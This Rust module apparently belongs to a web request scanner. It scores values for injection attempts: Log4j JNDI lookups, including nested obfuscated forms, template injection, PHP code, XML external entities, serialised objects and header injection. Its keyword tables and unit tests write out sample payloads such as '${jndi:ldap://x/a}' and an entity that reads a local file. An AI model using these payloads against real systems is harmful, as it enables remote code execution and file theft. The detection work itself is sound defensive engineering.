//! How much a value reads like something that an interpreter behind the server would run: lookups of a
//! logger, templates, code of PHP and its like, entities of XML, serialised objects, header lines.

use memchr::memmem::find;

use super::phrases::{Found, Sort, Table};

/// Lookups within lookups that are opened.
const DEPTH_MAX: usize = 16;

/// Texts of template languages.
pub(super) const TEMPLATES: Table = &[
    (b"__class__", 6),
    (b"__globals__", 6),
    (b"__import__", 6),
    (b"__subclasses__", 6),
    (b"#set($", 6),
    (b"#set ($", 6),
    (b"<#assign", 6),
    (b"freemarker", 4),
    (b"@java.lang", 6),
    (b"#_memberaccess", 6),
    (b"ognl.", 5),
    (b"class.module.classloader", 6),
    (b"t(java.lang", 6),
    (b"#context", 4),
    (b"getclass(", 5),
    (b"forname(", 5),
    (b"{{config", 5),
    (b"{{self", 5),
    (b"{{request", 5),
    (b"(#rt", 5),
];

/// Texts of PHP, ASP and their like.
pub(super) const CODE: Table = &[
    (b"<?php", 6),
    (b"<?=", 5),
    (b"phpinfo(", 5),
    (b"print(md5(", 8),
    (b"die(md5(", 8),
    (b"echo md5(", 6),
    (b"md5(", 2),
    (b"eval(", 4),
    (b"assert(", 4),
    (b"base64_decode(", 5),
    (b"response.write(", 8),
    (b"call_user_func", 5),
    (b"create_function(", 5),
    (b"file_put_contents(", 6),
    (b"file_get_contents(", 5),
    (b"invokefunction", 6),
    (b"${@", 6),
    (b"$_get[", 5),
    (b"$_post[", 5),
    (b"$_request[", 5),
    (b"$globals[", 5),
    (b"preg_replace(", 4),
    (b"gethostbyname(", 5),
    (b"__halt_compiler", 6),
    (b"disable_functions", 5),
    (b"suhosin", 5),
    (b"print(", 3),
    (b"require(", 3),
];

/// Texts of XML.
pub(super) const ENTITIES: Table =
    &[(b"<!entity", 14), (b"<!doctype", 3), (b"<xi:include", 10), (b"system \"", 2), (b"<xsl:", 5)];

/// What serialised objects begin with.
pub(super) const OBJECTS: Table = &[
    (b"ro0abx", 7),
    (b"aced0005", 7),
    (b"!!python/", 7),
    (b"!ruby/object", 7),
    (b"java.util.", 4),
    (b"$type\":", 4),
];

/// Points of a value in lower case for a lookup that fetches code (`${jndi:`), however nested.
pub fn lookup_points(value: &[u8]) -> u32 {
    if find(value, b"${").is_none() {
        return 0;
    }
    let opened = looked_up(value);
    let jndi = find(&opened, b"jndi:").is_some();
    let loads =
        [&b"ldap:"[..], b"rmi:", b"dns:", b"iiop:", b"ldaps:", b"corba:", b"nis:", b"http:"];
    let loads = loads.iter().any(|scheme| find(&opened, scheme).is_some());
    let nested = find(value, b"${${").is_some()
        || find(value, b"${::-").is_some()
        || find(value, b"${env:").is_some();
    u32::from(jndi) * 8 + u32::from(loads && nested) * 6 + u32::from(nested) * 3
}

/// The text with `${lower:j}`, `${::-n}` and their like replaced by what they give.
fn looked_up(value: &[u8]) -> Vec<u8> {
    let mut stack: Vec<Vec<u8>> = vec![Vec::new()];
    let mut at = 0;
    while let Some(byte) = value.get(at) {
        let top = stack.len() - 1;
        if value[at..].starts_with(b"${") && stack.len() < DEPTH_MAX {
            stack.push(Vec::new());
            at += 2;
            continue;
        }
        if *byte == b'}' && top > 0 {
            let inner = stack.pop().unwrap_or_default();
            let given = match memchr::memmem::rfind(&inner, b":-") {
                Some(default) => &inner[default + 2..],
                None => inner
                    .strip_prefix(b"lower:")
                    .or(inner.strip_prefix(b"upper:"))
                    .unwrap_or(&inner),
            };
            stack[top - 1].extend_from_slice(given);
        } else {
            stack[top].push(*byte);
        }
        at += 1;
    }
    stack.concat()
}

/// Points for an expression of a template language.
pub fn template_points(value: &[u8], found: &Found) -> u32 {
    let texts = found.points(Sort::Template);
    let mut best = 0;
    if memchr::memchr2(b'{', b'<', value).is_none() {
        return texts;
    }
    for open in [&b"{{"[..], b"${", b"#{", b"*{", b"@{", b"%{", b"<%=", b"{%"] {
        let Some(at) = find(value, open) else { continue };
        let inner: &[u8] = &value[at + open.len()..];
        let end = inner.iter().take(256).position(|byte| matches!(byte, b'}' | b'%'));
        let Some(end) = end else { continue };
        let counts = inner[..end].iter().any(u8::is_ascii_digit)
            && inner[..end].iter().any(|byte| b"*+-/".contains(byte))
            && inner[..end]
                .iter()
                .all(|byte| byte.is_ascii_digit() || b"*+-/ '\"()".contains(byte));
        let calls = inner[..end].contains(&b'(') || inner[..end].contains(&b'@');
        best = best.max(if counts {
            6
        } else if calls {
            5
        } else if open == b"<%=" {
            4
        } else {
            2
        });
    }
    texts + best
}

/// Points for a serialised object.
pub fn object_points(value: &[u8], found: &Found) -> u32 {
    let texts = found.points(Sort::Object);
    texts + if numbered(value) { 6 } else { 0 }
}

/// `o:8:"name":`, `a:2:{`: what PHP's serialize gives.
fn numbered(value: &[u8]) -> bool {
    memchr::memchr_iter(b':', value).any(|at| {
        let kind = at.checked_sub(1).and_then(|at| value.get(at));
        let inside =
            at.checked_sub(2).and_then(|at| value.get(at)).is_some_and(u8::is_ascii_alphanumeric);
        let rest = &value[at + 1..];
        let digits = rest.iter().take(8).take_while(|byte| byte.is_ascii_digit()).count();
        let behind = &rest[digits..];
        let object = matches!(kind, Some(b'o' | b'c')) && behind.starts_with(b":\"");
        let list = kind == Some(&b'a') && behind.starts_with(b":{");
        !inside && digits > 0 && (object || list)
    })
}

/// Points for a line break with a header behind it.
pub fn header_points(value: &[u8]) -> u32 {
    let mut points = 0;
    for at in memchr::memchr2_iter(b'\n', b'\r', value) {
        let line = value[at + 1..].trim_ascii_start();
        let name = line
            .iter()
            .take(48)
            .take_while(|byte| byte.is_ascii_alphabetic() || **byte == b'-')
            .count();
        let named = line.get(name) == Some(&b':') && name >= 4;
        let known = [
            &b"set-cookie"[..],
            b"location",
            b"content-type",
            b"content-length",
            b"refresh",
            b"x-",
        ];
        let known = known.iter().any(|known| line.starts_with(known));
        points = points.max(match (named, known) {
            (true, true) => 8,
            (true, false) => 5,
            _ if line.starts_with(b"http/1.") => 6,
            _ => 0,
        });
    }
    points
}

/// Points for marks that no visitor types: a probe of how errors look, that means nothing by itself.
pub fn fuzz_points(value: &[u8]) -> u32 {
    const MARKS: &[u8] = b"'\"<>(){}|\\;`$";
    let value = value.trim_ascii();
    if value.starts_with(b"{\"") || value.starts_with(b"[\"") || value.starts_with(b"[{") {
        return 0;
    }
    let count = |mark: u8| value.iter().filter(|byte| **byte == mark).count();
    let marks = value.iter().filter(|byte| MARKS.contains(byte)).count();
    let distinct = MARKS.iter().filter(|mark| value.contains(mark)).count();
    let letters =
        value.iter().filter(|byte| byte.is_ascii_alphanumeric() || **byte >= 0x80).count();
    let control = value.iter().any(|byte| matches!(byte, 1..=8 | 0x0b | 0x0e..=0x1f | 0x7f));
    let ends_quoted = matches!(value.last(), Some(b'\'' | b'"' | b'\\'))
        && count(value[value.len() - 1]) % 2 == 1;
    // an apostrophe stands between letters, inches behind a number
    let open = value
        .windows(2)
        .any(|pair| matches!(pair, [b'0'..=b'9', b'\'']) || matches!(pair, [b'a'..=b'z', b'"']))
        && (count(b'\'') % 2 == 1 || count(b'"') % 2 == 1);
    let angles = count(b'<') > 1 || count(b'<') > 0 && count(b'>') > 0;
    let repeated = value
        .windows(4)
        .any(|run| MARKS.contains(&run[0]) && run.iter().all(|byte| *byte == run[0]));
    let product = value.contains(&b'*')
        && value.iter().all(|byte| byte.is_ascii_digit() || *byte == b'*')
        && letters > 0;
    let variable = find(value, b"@@").is_some_and(|at| value.len() - at > 3);
    let crowded = distinct >= 4 || distinct >= 2 && marks > letters || marks > 0 && letters == 0;
    let broken = control || ends_quoted || open || angles || repeated || product || variable;
    if crowded || broken { 5 } else { 0 }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lookups_are_found_however_they_are_nested() {
        for value in [
            "${jndi:ldap://x/a}",
            "${${lower:j}ndi:${lower:l}dap://x}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x}",
            "${${env:x:-j}ndi:dns://x}",
            "x ${jndi:dns://x",
        ] {
            assert!(lookup_points(value.as_bytes()) >= 5, "{value}");
        }
        for value in ["${name}", "jndi:ldap", "price $5 {a}"] {
            assert!(lookup_points(value.as_bytes()) < 5, "{value}");
        }
        let deep = |depth: usize| {
            looked_up(format!("{}j{}", "${lower:".repeat(depth), "}".repeat(depth)).as_bytes())
        };
        assert_eq!(deep(DEPTH_MAX - 1), b"j");
        assert_ne!(deep(DEPTH_MAX), b"j");
    }

    type Judge = fn(&[u8]) -> u32;

    /// A judge, what scores, what does not.
    fn cases() -> [(Judge, &'static [&'static str], &'static [&'static str]); 6] {
        [
            (
                |value| template_points(value, &Found::within(value)),
                &[
                    "{{7*7}}",
                    "${7*7}",
                    "#{7+7}",
                    "{{config.items()}}",
                    "<%= 7*7 %>",
                    "%{(#a='b')}",
                    "${12 + 3}",
                ],
                &["{{item.src}}", "${name}", "{a}", "100%"],
            ),
            (
                |value| Found::within(value).points(Sort::Code),
                &["phpinfo()", ";print(md5(x));", "${@print(1)}", "<?php x", "response.write(1*2)"],
                &["print this", "md5", "php"],
            ),
            (
                |value| Found::within(value).points(Sort::Entity),
                &["<!doctype a [<!entity x system \"file:///etc/x\">]>", "<xi:include href=x>"],
                &["<a>", "doctype"],
            ),
            (
                |value| object_points(value, &Found::within(value)),
                &["o:8:\"stdclass\":1:{", "a:2:{i:0;", "ro0abxnyab"],
                &["to:8:30", "ratio a:2", "a:b"],
            ),
            (
                header_points,
                &["x\r\nset-cookie: a=b", "x\nlocation: y", "\r\nsomeheader:x"],
                &["line\nother line", "a: b"],
            ),
            (
                fuzz_points,
                &[
                    "'",
                    ")",
                    "1'",
                    "\\",
                    "'\"()",
                    "^(#$!@#$)(()))",
                    "\u{1}",
                    "<!--",
                    "1'-x",
                    "0-))))",
                    "a<b<",
                    "97*98*99",
                    "@@version",
                    "x\"y(",
                ],
                &[
                    "o'brien",
                    "27\" screen",
                    "o'brien's",
                    "(555) 123",
                    "a;b",
                    "",
                    "*",
                    "x (y)",
                    "5 $",
                    "\"a phrase\"",
                    "rock 'n' roll",
                ],
            ),
        ]
    }

    #[test]
    fn expressions_score_and_text_does_not() {
        for (judge, bad, good) in cases() {
            for value in bad {
                assert!(judge(value.as_bytes()) >= 5, "{value}: {}", judge(value.as_bytes()));
            }
            for value in good {
                assert!(judge(value.as_bytes()) < 5, "{value}: {}", judge(value.as_bytes()));
            }
        }
    }
}
